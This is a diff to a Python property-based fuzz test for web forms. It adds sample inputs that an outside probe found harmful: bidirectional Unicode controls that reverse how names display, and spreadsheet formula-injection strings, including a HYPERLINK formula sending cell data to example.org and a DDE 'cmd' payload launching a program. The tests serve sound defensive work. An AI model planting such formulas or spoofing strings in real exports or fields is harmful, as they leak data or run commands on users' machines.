@@ -44,6 +44,30 @@ def form_fields(html: str) -> dict[str, list[str]]:
 # other control characters included.
 nasty_text = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
 huge_text = st.sampled_from(["x" * 100_000, "\u00e9\U0001f600" * 30_000, "1" * 5_000])
+# Values of the kinds an outside probe found harmful, offered to every field besides
+# Hypothesis' own: bidirectional controls that make a name read reversed (refused in
+# single-line texts, see test_fuzz_forms), and spreadsheet formulas (text in every XLSX,
+# see test_spreadsheets). Oversized requests are sent apart (test_fuzz_forms).
+BIDI_TEXTS = [
+    "Amina \u202eladdaH",  # RIGHT-TO-LEFT OVERRIDE: shows "Amina Haddal"
+    "\u202dOmar\u202c",  # LEFT-TO-RIGHT OVERRIDE ... POP DIRECTIONAL FORMATTING
+    "\u2067Tesfay\u2069 Yohannes",  # RIGHT-TO-LEFT ISOLATE ... POP DIRECTIONAL ISOLATE
+    "\u2066\u2068x\u202a\u202by",  # LRI, FSI, LRE, RLE
+    "Ali\u200f",  # RIGHT-TO-LEFT MARK
+    "\u200eHassan\u061c",  # LEFT-TO-RIGHT MARK, ARABIC LETTER MARK
+    "3011\u202eBA",
+]
+FORMULA_TEXTS = [
+    '=HYPERLINK("http://example.org/?d="&A1,"klik")',
+    "=1+1",
+    "+31 6 12345678",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
+corpus = st.sampled_from(BIDI_TEXTS + FORMULA_TEXTS)
 numbers = st.one_of(
     st.integers(min_value=-(10**30), max_value=10**30).map(str),
     st.sampled_from(["1e309", "NaN", "-Infinity", "0x1F", "1,5", "\u0663", "-0", "2147483648"]),
@@ -60,6 +84,7 @@ def value_for(options: list[str]) -> st.SearchStrategy:
     single = st.one_of(
         st.sampled_from(options) if options else st.nothing(),
         nasty_text,
+        corpus,
         huge_text,
         numbers,
         dates,
